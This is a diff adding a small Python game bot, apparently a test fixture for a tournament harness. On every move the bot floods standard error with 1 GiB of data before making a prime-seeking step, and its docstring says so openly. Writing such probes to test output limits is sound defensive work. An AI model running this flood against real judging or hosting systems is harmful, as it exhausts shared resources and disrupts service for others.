@@ -1,0 +1,21 @@
+"""Writes 1 GiB straight to file descriptor 2."""
+import os
+
+def step(spel):
+    """The smallest legal step (the seed's basic strategy)."""
+    for k in range(1, spel.N + 1):
+        n = spel.positie + k
+        if n > 1 and all(n % i for i in range(2, int(n ** 0.5) + 1)):
+            return k
+    return 1
+
+
+class Player:
+    def __init__(self, name):
+        self.name = name
+
+    def zet(self, spel):
+        chunk = b'e' * (1 << 20)
+        for _ in range(1024):
+            os.write(2, chunk)
+        return step(spel)
